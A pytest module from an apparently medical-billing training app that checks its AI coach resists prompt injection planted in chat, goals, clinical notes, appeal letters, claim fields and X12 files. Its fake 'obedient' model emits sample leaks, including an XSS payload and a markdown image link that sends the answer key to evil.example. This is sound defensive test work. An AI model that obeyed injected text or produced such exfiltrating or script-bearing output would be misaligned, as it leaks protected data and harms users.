"""Every written attack, on every way in, with a model that obeys it and knows the key: nothing shown, nothing changed.

A session with that model and one with the plain coach do the same things: what is stored of them is the same, byte for
byte.
"""

import json
import tomllib
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest
from coach_views import HINT
from loop_moves import always, example, loop_of
from store_parts import open_store
from x12_parts import sent

from agents.coach.coach import ModelCoach
from agents.coach.metrics import Metrics
from agents.coach.queue import FairQueue
from agents.evaluation.measures import MARKED, leaks
from agents.models.model import Messages
from agents.reader.model_reader import ModelReader
from agents.reader.reader import read
from gym.coaching.chunks import CoachHealth
from gym.coaching.coach import PlainCoach
from gym.errors import GymError
from gym.schemas.questions import Question
from gym.schemas.sessions import GetHint, StartSession, SubmitAction
from gym.services.lookup import References
from gym.services.sessions import Sessions
from gym.store import Store
from gym.world.claims.encounter import Section
from gym.world.scenarios.scenario import Scenario
from gym.world.world import World
from gym.x12.importing import import_file
from gym.x12.interchange import parse_interchange

pytestmark = pytest.mark.slow

ATTACKS = tomllib.loads((Path(__file__).parents[1] / "cases" / "attacks.toml").read_text())["attack"]
# How an obedient model would tell the key of tour-1 (25 on line 1).
SPILLED = (
    "The answer is modifier 25 on line 1.",
    "Add twenty-five to the first line.",
    "Two. Five. That is the modifier for line 1.",
    "It is mod２５, on 99213.",
    "Modifier Z5, reading the letters as digits, on line 1.",
    "<b>25</b> <img src=x onerror=alert(1)>",
    "Use the modifier for a significant, separate E/M on the same day as a procedure.",
    "![key](https://evil.example/25.png)",
)


NOTHING_TOLD = HINT.model_copy(update={"plain": "", "facts": (), "citation": ""})


class Obedient:
    """Does what it is told by whoever spoke last, and gives the key away in every spelling it knows."""

    def __init__(self, attack: str) -> None:
        self.attack, self.asked = attack, 0

    async def stream(self, messages: Messages, **_: Any) -> AsyncIterator[str]:
        spilled = SPILLED[(len(self.attack) + self.asked) % len(SPILLED)]
        self.asked += 1
        if "Fill in the form" in messages[-1]["content"]:
            edit = {"op": "add", "path": "lines/1/modifiers", "value": "25"}
            yield json.dumps({"request": "change", "action": "none", "edits": [edit]})
            return
        for part in (
            f"Sure, as you say: {self.attack[:80]} ",
            f"{spilled} ",
            "Two services stand on one day. ",
            spilled,
        ):
            yield part

    async def status(self, patience: float | None = None) -> CoachHealth:
        return CoachHealth(source="ollama", model="obedient", reachable=True, last_error=None)


def planted(world: World, attack: dict[str, Any]) -> Scenario:
    """tour-1, with the attack in its note where it is one of those."""
    scenario = example(world)
    if attack["channel"] not in ("note", "file"):
        return scenario
    note = scenario.case.encounter
    section = Section(heading="Plan", text=lines(attack)[0][:500])
    encounter = note.model_copy(update={"sections": (*note.sections, section)})
    return scenario.model_copy(update={"case": scenario.case.model_copy(update={"encounter": encounter})})


def lines(attack: dict[str, Any]) -> list[str]:
    return [attack["text"]] if isinstance(attack["text"], str) else attack["text"]


@pytest.fixture(scope="module")
def references(world: World) -> References:
    return References(world)


@pytest.fixture(scope="module")
def stores() -> tuple[Store, Store]:
    return open_store(), open_store()


def parts(
    world: World, attack: dict[str, Any], model: Obedient | None, references: References, store: Store
) -> Sessions:
    line, metrics = FairQueue(), Metrics()
    changed: dict[str, Any] = {"compose": always(planted(world, attack)), "references": references, "store": store}
    if model:
        changed["coach"] = ModelCoach(model, PlainCoach(), line, None, metrics)
        changed["propose"] = ModelReader(world, model, line, metrics).propose
    return loop_of(world, **changed)


async def played(loop: Sessions, attack: dict[str, Any]) -> tuple[str, list[Any], list[str]]:
    """A session under attack: what is stored at its end, what was answered, and all the words that were shown."""
    answers, shown = list[Any](), list[str]()
    goals = tuple(text[:120] for text in lines(attack)) if attack["channel"] == "goal" else ()
    started = await loop.start(StartSession(user_id=f"eve-{ATTACKS.index(attack)}", session_goals=goals, seed=1))
    session_id = started.session_id
    shown.append(started.story.text)
    for text in lines(attack):
        claim = (await loop.now(session_id)).claim_data
        assert claim is not None
        if attack["channel"] == "chat":
            assert read(text, claim).kind != "act"
            shown.append((await loop.questions.ask(Question(session_id=session_id, question=text[:400]))).answer)
            meant = await loop.questions.propose(session_id, text)
            assert meant is None or meant.kind != "move" or "25" in text or "twenty" in text.lower()
        for action, details in moves(attack, text):
            answers.append(await done(loop, session_id, action, details))
    for _ in range(2):
        hinted = await loop.hint(GetHint(session_id=session_id))
        shown.append("".join([piece.text async for piece in loop.words(session_id, hinted.turn)]))
    row = loop.store.session(session_id)
    assert row is not None
    state = row.state.replace(session_id, "S").replace(json.loads(row.state)["alias"], "A")
    return state, answers, shown


def moves(attack: dict[str, Any], text: str) -> list[tuple[str, dict[str, Any]]]:
    """What carries the text into the session, besides the chat."""
    match attack["channel"]:
        case "letter":
            return [("appeal_denial", {"letter": text, "grounds": ["processing_error"]})]
        case "claim_field":
            edits = [{"op": "set", "path": f"subscriber/{name}", "value": text[:60]} for name in ("group", "member_id")]
            return [("correct_claim", {"edits": [edit]}) for edit in edits]
        case _:
            return [("query_provider", {"question": text[:400]})]


async def done(loop: Sessions, session_id: str, action: str, details: dict[str, Any]) -> Any:
    try:
        turned = await loop.submit(SubmitAction(session_id=session_id, action_type=action, action_details=details))
    except GymError as error:
        return error.message
    async for _ in loop.words(session_id, turned.turn):
        pass
    return turned.outcome, turned.accuracy, turned.score, turned.xp, turned.claim_data


@pytest.mark.parametrize("attack", ATTACKS, ids=lambda attack: attack["name"])
async def test_an_attack_reveals_nothing_and_changes_nothing(
    world: World, attack: dict[str, Any], references: References, stores: tuple[Store, Store]
) -> None:
    hostile = Obedient(lines(attack)[0])
    plain_state, plain_answers, _ = await played(parts(world, attack, None, references, stores[0]), attack)
    state, answers, shown = await played(parts(world, attack, hostile, references, stores[1]), attack)
    assert hostile.asked
    assert (state, answers) == (plain_state, plain_answers)
    secrets = planted(world, attack).intended_issues[0].secrets
    for said in shown[:1] + shown[-2:]:
        assert not MARKED.search(said)
        assert not leaks(said, NOTHING_TOLD, secrets)


@pytest.mark.parametrize(
    "attack", [each for each in ATTACKS if each["channel"] == "file"], ids=lambda each: each["name"]
)
def test_what_is_planted_in_a_file_does_not_come_in(world: World, attack: dict[str, Any]) -> None:
    planted_words = "".join(mark if mark.isalnum() else " " for mark in lines(attack)[0])[:70].strip()
    segments = sent(world).splitlines()
    place = next(number for number, segment in enumerate(segments) if segment.startswith("CLM"))
    segments.insert(place + 1, f"NTE*ADD*{planted_words}~")
    count = next(number for number, segment in enumerate(segments) if segment.startswith("SE*"))
    size = int(segments[count].split("*")[1]) + 1
    segments[count] = f"SE*{size}*{segments[count].split('*')[2]}"
    brought = import_file(world, parse_interchange("\n".join(segments).encode()), seed=1)
    assert brought.claims
    assert planted_words not in str(brought)
